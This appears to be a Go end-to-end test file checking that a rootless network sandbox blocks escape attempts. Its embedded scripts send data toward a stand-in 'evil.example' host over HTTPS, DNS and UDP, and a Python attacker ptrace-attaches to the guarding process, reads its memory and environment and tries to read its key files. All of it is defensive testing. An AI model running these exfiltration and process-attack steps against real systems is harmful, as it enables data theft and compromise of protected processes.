package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/test/roottest"
)

// rootlessUID is the unprivileged user the rootless tests run airlock as
// (AIRLOCK_CI_USER, else nobody: no sudo, no capabilities, no daemon).
var rootlessUID = ciUID()

// rootlessEnv is one rootless run's files, all in a directory the user can
// read: the binary, the config, the fake internet's CA, the user's audit
// directory, workspace and XDG_RUNTIME_DIR.
type rootlessEnv struct {
	t                         *testing.T
	dir, bin, config, audit   string
	workspace, runtime, state string
}

// newRootlessEnv copies the airlock binary and the fake internet's CA where
// the user can read them and writes a config like newEnv's. Everything is
// removed at cleanup, even on failure.
func newRootlessEnv(t *testing.T) *rootlessEnv {
	t.Helper()
	roottest.Require(t)
	if w == nil {
		t.Fatal("e2e: fake internet not set up")
	}
	dir, err := os.MkdirTemp("", "alk-rootless-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	e := &rootlessEnv{t: t, dir: dir, bin: filepath.Join(dir, "airlock"), config: filepath.Join(dir, "airlock.yaml"),
		audit: filepath.Join(dir, "audit", "audit.jsonl"), workspace: filepath.Join(dir, "ws"),
		runtime: filepath.Join(dir, "xdg-run"), state: filepath.Join(dir, "state")}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Chmod(dir, 0o755))
	must(copyFile(w.bin, e.bin, 0o755))
	// The core (the front executes it for an in-process run) and the
	// sandbox init beside it, as installed, copied after it as make build
	// writes them (each refuses a sibling older than itself from a modified
	// tree).
	for _, name := range []string{"airlock-core", "airlock-init"} {
		if _, err := os.Stat(filepath.Join(filepath.Dir(w.bin), name)); err == nil {
			must(copyFile(filepath.Join(filepath.Dir(w.bin), name), filepath.Join(dir, name), 0o755))
		}
	}
	ca := filepath.Join(dir, "fakenet-ca.pem")
	must(copyFile(w.caFile, ca, 0o644))
	for _, d := range []struct {
		path string
		mode os.FileMode
	}{{filepath.Dir(e.audit), 0o700}, {e.workspace, 0o755}, {e.runtime, 0o700}, {e.state, 0o700}} {
		must(os.Mkdir(d.path, d.mode))
		must(os.Chown(d.path, rootlessUID, rootlessUID))
	}
	yaml := fmt.Sprintf(`policy: {mode: enforce}
dns: {upstreams: [%q]}
upstream: {allow_cidrs: [%q], ca_file: %q}
audit: {file: %q}
ca: {cert: %q, key: %q}
limits: {pids: 512, timeout: 3m, tmp_size: 256M}
`, w.net.DNSAddr.String(), w.net.Subnet.String(), ca, e.audit,
		filepath.Join(dir, "no-ca", "ca.pem"), filepath.Join(dir, "no-ca", "ca.key"))
	must(os.WriteFile(e.config, []byte(yaml), 0o644))
	return e
}

func copyFile(src, dst string, mode os.FileMode) error {
	b, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return os.WriteFile(dst, b, mode)
}

// run runs `airlock run` as the user, in the workspace, with no more
// environment than a login would give (and no sudo).
func (e *rootlessEnv) run(script string) result {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	uid := fmt.Sprint(rootlessUID)
	cmd := exec.CommandContext(ctx, "setpriv", "--reuid", uid, "--regid", uid, "--clear-groups", "--",
		"env", "-i", "PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/nonexistent", "LANG=C.UTF-8",
		"XDG_RUNTIME_DIR="+e.runtime, "XDG_STATE_HOME="+e.state,
		e.bin, "--socket", filepath.Join(e.dir, "no-daemon.sock"), "run", "--config", e.config, "--", "/bin/sh", "-c", script)
	cmd.Dir = e.workspace
	cmd.WaitDelay = 10 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	res := result{stdout: out.String(), stderr: errb.String()}
	var ee *exec.ExitError
	switch {
	case err == nil:
	case errors.As(err, &ee):
		res.code = ee.ExitCode()
	default:
		e.t.Fatalf("airlock run as uid %d: %v\n%s", rootlessUID, err, res)
	}
	e.t.Logf("rootless airlock run\n%s", res)
	return res
}

// withSubIDs gives the user a subordinate uid and gid range for the test
// and removes exactly those lines afterwards.
func withSubIDs(t *testing.T, start int) {
	t.Helper()
	line := fmt.Sprintf("%d:%d:65536\n", rootlessUID, start)
	for _, f := range []string{"/etc/subuid", "/etc/subgid"} {
		old, err := os.ReadFile(f)
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, append(append([]byte{}, old...), line...), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			cur, err := os.ReadFile(f)
			if err == nil {
				err = os.WriteFile(f, bytes.Replace(cur, []byte(line), nil, 1), 0o644)
			}
			if err != nil {
				t.Errorf("restore %s: %v", f, err)
			}
		})
	}
}

// TestRootRootlessRun: `airlock run` as an ordinary user (nobody, no sudo,
// no daemon) gets the same island: an allowed HTTPS GET passes, a denied
// host and a direct connection to its address are refused with the host
// seeing nothing, a DNS question carrying data is refused with the real
// resolver never asked, a datagram is dropped, and the audit log verifies.
// Once with the user mapped alone, once with a subordinate range (the
// sandbox then runs as a uid of its own).
func TestRootRootlessRun(t *testing.T) {
	for _, tc := range []struct {
		name    string
		subIDs  int // first subordinate id, 0: none
		wantUID string
		mode    string
	}{
		{"one id", 0, "0", "runs as you"},
		{"subordinate uid", 1200000, "1000", "sandbox uid 1200000"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newRootlessEnv(t)
			if tc.subIDs != 0 {
				withSubIDs(t, tc.subIDs)
			}
			const secretName = "secret-data.exfil.example"
			pypiBefore, evilBefore := snap(w.pypi), snap(w.evil)
			qBefore := w.net.Queries(secretName)
			res := e.run(`
echo "uid=$(id -u)"
curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
echo "body=$(cat /tmp/body)"
curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v
curl -sS --noproxy '*' --max-time 30 -o /dev/null -w 'direct=%{http_code}\n' http://` + w.evil.IP.String() + `/direct
echo "dns=$(dig +time=10 +tries=2 @` + w.net.DNSAddr.Addr().String() + ` ` + secretName + ` A | grep -o 'status: [A-Z]*' | cut -d' ' -f2)"
python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"exfil", ("` + w.evil.IP.String() + `", 9999))' 2>/dev/null; echo "udp_sent=$?"
sleep 0.5 # the drop's NFLOG batch reaches the gateway within 50 ms
`)
			wantCode(t, res, 0)
			if !strings.Contains(res.stderr, "airlock: rootless:") || !strings.Contains(res.stderr, tc.mode) {
				t.Errorf("stderr: want the rootless line naming %q\n%s", tc.mode, res)
			}
			m := kv(res.stdout)
			wantKV(t, m, "uid", tc.wantUID, res)
			wantKV(t, m, "get", "200", res)
			wantKV(t, m, "body", "hello from pypi.org/simple/", res)
			wantKV(t, m, "evil", "403", res)
			wantKV(t, m, "direct", "403", res)
			wantKV(t, m, "dns", "NXDOMAIN", res)
			wantKV(t, m, "udp_sent", "1", res) // EPERM: the island drops it
			if d := snap(w.pypi).sub(pypiBefore); d.requests != 1 {
				t.Errorf("pypi.org: got %d requests, want 1", d.requests)
			}
			if d := snap(w.evil).sub(evilBefore); d.conns != 0 || d.requests != 0 {
				t.Errorf("evil.example: got %d connections, %d requests, want none", d.conns, d.requests)
			}
			if d := w.net.Queries(secretName) - qBefore; d != 0 {
				t.Errorf("the fake resolver got %d queries for %s, want 0", d, secretName)
			}
			recs := readRootlessLog(t, e.audit)
			mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET"})
			mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
			mustFind(t, recs, match{kind: audit.KindDNS, decision: audit.DecisionDeny, qname: secretName})
			mustFind(t, recs, match{kind: audit.KindDrop})
			mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
			if out, err := exec.Command(w.bin, "audit", "verify", "--pubkey", e.audit+".key.pub", e.audit).CombinedOutput(); err != nil {
				t.Errorf("audit verify: %v\n%s", err, out)
			}
			// The trust cache is kept for the next run; the run's own directory is not.
			if left, _ := filepath.Glob(filepath.Join(e.runtime, "airlock", "run-*")); len(left) != 0 {
				t.Errorf("the run directory is left: %v", left)
			}
		})
	}
}

// readRootlessLog reads the audit log the user's airlock wrote.
func readRootlessLog(t *testing.T, path string) []audit.Record {
	t.Helper()
	return (&env{t: t, audit: path}).records()
}

// guardAttacks is the attacker both sides run: each attack on pid (signal
// it, ptrace-attach it, open its memory and environment, join its user then
// network and mount namespaces) and a read of each file, printed as
// name=ok or name=ERRNO.
const guardAttacks = `
import ctypes, errno, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
def res(name, f):
    try:
        f(); print(name + "=ok")
    except OSError as e:
        print(name + "=" + errno.errorcode.get(e.errno, str(e.errno)))
def check(r):
    if r != 0:
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
def ptrace():
    check(libc.ptrace(16, pid, 0, 0))  # PTRACE_ATTACH
    libc.ptrace(17, pid, 0, 0)         # PTRACE_DETACH
def setns():
    for ns, flag in (("user", 0x10000000), ("net", 0x40000000), ("mnt", 0x00020000)):
        fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
        check(libc.setns(fd, flag))
res("ptrace", ptrace)
res("mem", lambda: open("/proc/%d/mem" % pid, "rb").close())
res("environ", lambda: open("/proc/%d/environ" % pid, "rb").read())
res("setns", setns)
for i, f in enumerate(sys.argv[2:]):
    res("file%d" % i, lambda: open(f, "rb").read())
res("kill", lambda: os.kill(pid, signal.SIGKILL))
`

// TestRootRootlessGuardUnreachable: a rootless sandbox's processes cannot
// reach the process that guards them (the gateway, the same user when no
// subordinate range is configured): signalling, ptrace, its memory and
// environment, its namespaces and its files (the CA key, the audit signing
// key) all fail from inside. The same attacks succeed from outside the
// sandbox as the same user against an unprotected process of that user,
// and the gateway's /proc files are closed even to the user (not dumpable).
// Its files live outside /tmp here, so it is their masks that hide them.
func TestRootRootlessGuardUnreachable(t *testing.T) {
	for _, tc := range []struct {
		name   string
		subIDs int // first subordinate id, 0: none
	}{{"one id", 0}, {"subordinate uid", 1300000}} {
		t.Run(tc.name, func(t *testing.T) { guardUnreachable(t, tc.subIDs) })
	}
}

// guardUnreachable is TestRootRootlessGuardUnreachable with or without a
// subordinate range for the user.
func guardUnreachable(t *testing.T, subIDs int) {
	e := newRootlessEnv(t)
	if subIDs != 0 {
		withSubIDs(t, subIDs)
	}
	// Outside /tmp (the sandbox's own tmpfs): the audit directory and the
	// runtime directory, where the CA key is minted.
	var err error
	base, err := os.MkdirTemp("/var/tmp", "alk-rootless-guard-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	e.runtime, e.audit = filepath.Join(base, "xdg-run"), filepath.Join(base, "audit", "audit.jsonl")
	for _, d := range []string{e.runtime, filepath.Dir(e.audit)} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(d, rootlessUID, rootlessUID); err != nil {
			t.Fatal(err)
		}
	}
	b, _ := os.ReadFile(e.config)
	if err := os.WriteFile(e.config, bytes.Replace(b, []byte(filepath.Join(e.dir, "audit", "audit.jsonl")), []byte(e.audit), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	attacker := filepath.Join(e.dir, "attack.py")
	if err := os.WriteFile(attacker, []byte(guardAttacks), 0o644); err != nil {
		t.Fatal(err)
	}
	// /var/tmp is the sandbox's own too: give it the attacker in the workspace.
	if err := copyFile(attacker, filepath.Join(e.workspace, "attack.py"), 0o644); err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	uid := fmt.Sprint(rootlessUID)
	asUser := func(args ...string) *exec.Cmd {
		return exec.CommandContext(ctx, "setpriv", append([]string{"--reuid", uid, "--regid", uid, "--clear-groups", "--",
			"env", "-i", "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/nonexistent", "SECRET=alk-guard-env",
			"XDG_RUNTIME_DIR=" + e.runtime}, args...)...)
	}
	cmd := asUser(e.bin, "--socket", filepath.Join(e.dir, "none.sock"), "run", "--config", e.config, "--",
		"/bin/sh", "-c", `while [ ! -s go ]; do sleep 0.05; done; python3 attack.py $(cat go)`)
	cmd.Dir = e.workspace
	cmd.WaitDelay = 10 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	gw := cmd.Process.Pid // setpriv and env execute airlock in place
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	// The gateway's secrets, once it has made them.
	var caKey string
	for i := 0; i < 200 && caKey == ""; i++ {
		keys, _ := filepath.Glob(filepath.Join(e.runtime, "airlock", "run-*", "ca", "*.key"))
		if len(keys) == 1 {
			caKey = keys[0]
		} else {
			time.Sleep(50 * time.Millisecond)
		}
	}
	auditKey := e.audit + ".key"
	if caKey == "" {
		_ = cmd.Process.Kill()
		_ = cmd.Wait() // the output's copiers are done: errb may be read
		t.Fatalf("no CA key appeared in %s\n%s", e.runtime, errb.String())
	}

	// Outside the sandbox, as the same user: an unprotected process of the
	// user (a sleep in user, network and mount namespaces of its own, as a
	// sandbox's init is) falls to every attack, and the key files are
	// readable: so each refusal below is the sandbox's doing.
	decoy := asUser("unshare", "-Urnm", "sleep", "60")
	if err := decoy.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = decoy.Process.Kill(); _ = decoy.Wait() }()
	time.Sleep(200 * time.Millisecond) // unshare has executed sleep
	ctl, err := asUser("python3", attacker, fmt.Sprint(decoy.Process.Pid), caKey, auditKey).CombinedOutput()
	if err != nil {
		t.Fatalf("control attacker: %v\n%s", err, ctl)
	}
	cm := kv(string(ctl))
	for _, k := range []string{"ptrace", "mem", "environ", "setns", "file0", "file1", "kill"} {
		if cm[k] != "ok" {
			t.Errorf("control: %s against an unprotected process: got %q, want ok (the test proves nothing)\n%s", k, cm[k], ctl)
		}
	}
	// The gateway itself, seen by the same user from outside: not dumpable.
	gwOut, _ := asUser("python3", "-c", fmt.Sprintf(`
try:
    open("/proc/%d/environ", "rb").read(); print("gw_environ=ok")
except OSError as e:
    import errno; print("gw_environ=" + errno.errorcode[e.errno])`, gw)).CombinedOutput()
	if got := kv(string(gwOut))["gw_environ"]; got != "EACCES" {
		t.Errorf("the gateway's environ from outside as the user: got %q, want EACCES (not dumpable)", got)
	}

	// Inside: go.
	if err := os.WriteFile(filepath.Join(e.workspace, "go"), []byte(fmt.Sprintf("%d %s %s\n", gw, caKey, auditKey)), 0o644); err != nil {
		t.Fatal(err)
	}
	err = cmd.Wait()
	res := result{stdout: out.String(), stderr: errb.String()}
	t.Logf("rootless sandbox attacking its gateway\n%s", res)
	if err != nil {
		t.Fatalf("airlock run: %v (the gateway died?)\n%s", err, res)
	}
	m := kv(res.stdout)
	for k, want := range map[string]string{
		"ptrace": "EPERM", "mem": "ENOENT", "environ": "ENOENT", "setns": "ENOENT",
		"file0": "ENOENT", "file1": "ENOENT", "kill": "ESRCH",
	} {
		if m[k] != want {
			t.Errorf("%s from the sandbox: got %q, want %q\n%s", k, m[k], want, res)
		}
	}
	if strings.Contains(res.stdout, "alk-guard-env") {
		t.Errorf("the gateway's environment leaked into the sandbox\n%s", res)
	}
}

// TestRootRootlessDelegatedCgroup: where the user has a cgroup v2 subtree
// of their own (systemd's user@UID.service; here a directory of the
// machine's cgroup2 mount given to the user, with airlock started inside
// it), rootless run finds it, says so, and each sandbox is born in a
// cgroup below it, which the timeout kills and the end removes.
func TestRootRootlessDelegatedCgroup(t *testing.T) {
	e := newRootlessEnv(t)
	deleg, leaf := delegateCgroup(t, e)
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	uid := fmt.Sprint(rootlessUID)
	cmd := exec.CommandContext(ctx, "sh", "-c", `echo $$ > "$0/cgroup.procs" && exec "$@"`, leaf,
		"setpriv", "--reuid", uid, "--regid", uid, "--clear-groups", "--",
		"env", "-i", "PATH=/usr/bin:/bin", "HOME=/nonexistent", "XDG_RUNTIME_DIR="+e.runtime,
		e.bin, "--socket", filepath.Join(e.dir, "none.sock"), "run", "--config", e.config, "--timeout", "3s", "--",
		"/bin/sh", "-c", `touch started; sleep 60`)
	cmd.Dir = e.workspace
	cmd.WaitDelay = 10 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// While the command sleeps, its processes are in a cgroup below the
	// delegated one.
	var inCgroup bool
	for i := 0; i < 200 && !inCgroup; i++ {
		if _, err := os.Stat(filepath.Join(e.workspace, "started")); err == nil {
			procs, _ := filepath.Glob(filepath.Join(deleg, "airlock", "airlock-*", "cgroup.procs"))
			for _, p := range procs {
				b, _ := os.ReadFile(p)
				inCgroup = inCgroup || len(strings.Fields(string(b))) >= 2 // init and the command
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	err := cmd.Wait()
	res := result{stdout: out.String(), stderr: errb.String()}
	t.Logf("rootless run in a delegated cgroup\n%s", res)
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 124 {
		t.Errorf("got %v, want exit 124 (the timeout killed the sandbox)", err)
	}
	if !inCgroup {
		t.Errorf("the sandbox's processes were never seen in a cgroup below %s", deleg)
	}
	if !strings.Contains(res.stderr, "cgroup v2 delegated to you at "+deleg) {
		t.Errorf("stderr: want the delegated cgroup named\n%s", res)
	}
	if left, _ := filepath.Glob(filepath.Join(deleg, "airlock", "airlock-*")); len(left) != 0 {
		t.Errorf("the sandbox's cgroup is left: %v", left)
	}
}

// delegateCgroup makes a cgroup v2 subtree of the machine's cgroup2 mount
// the user's as systemd's Delegate= does for user@UID.service: the
// directory and its cgroup.procs, cgroup.threads and cgroup.subtree_control
// are chowned to the user, nothing else (its controllers' limit files stay
// root's). leaf is a child of it, delegated the same way, for the user's
// processes (a cgroup with processes cannot enable controllers for its
// children). Both are removed at cleanup, after what airlock left below
// deleg/airlock, which is an error. Skips when there is no cgroup2 mount.
func delegateCgroup(t *testing.T, e *rootlessEnv) (deleg, leaf string) {
	t.Helper()
	mi, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	mnt := cgroup2MountOf(string(mi))
	if mnt == "" {
		t.Skip("no cgroup2 mount")
	}
	deleg = filepath.Join(mnt, "alk-e2e-deleg-"+filepath.Base(e.dir))
	leaf = filepath.Join(deleg, "proc")
	for _, d := range []string{deleg, leaf} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			if d == deleg {
				// airlock's cgroups first: any left is an error.
				sub, _ := filepath.Glob(filepath.Join(deleg, "airlock", "airlock-*"))
				for _, c := range sub {
					t.Errorf("cgroup %s left behind", c)
					removeCgroup(t, c)
				}
				removeCgroup(t, filepath.Join(deleg, "airlock"))
			}
			removeCgroup(t, d)
		})
		for _, f := range []string{"", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"} {
			if err := os.Chown(filepath.Join(d, f), rootlessUID, rootlessUID); err != nil {
				t.Fatal(err)
			}
		}
	}
	return deleg, leaf
}

// removeCgroup removes the cgroup at d, killing what is left in it.
func removeCgroup(t *testing.T, d string) {
	t.Helper()
	if b, err := os.ReadFile(filepath.Join(d, "cgroup.procs")); err == nil {
		for _, p := range strings.Fields(string(b)) {
			if pid, err := strconv.Atoi(p); err == nil {
				_ = syscall.Kill(pid, syscall.SIGKILL)
			}
		}
	}
	var err error
	for i := 0; i < 50; i++ {
		if err = os.Remove(d); err == nil || errors.Is(err, os.ErrNotExist) {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Errorf("remove cgroup %s: %v", d, err)
}

// cgroup2MountOf is the first cgroup2 mount point in mountinfo (the e2e
// tests use airlock only through its binaries, never sandboxd itself).
func cgroup2MountOf(mountinfo string) string {
	for _, line := range strings.Split(mountinfo, "\n") {
		pre, post, ok := strings.Cut(line, " - ")
		if f := strings.Fields(pre); ok && strings.HasPrefix(post, "cgroup2 ") && len(f) >= 5 {
			return f[4]
		}
	}
	return ""
}
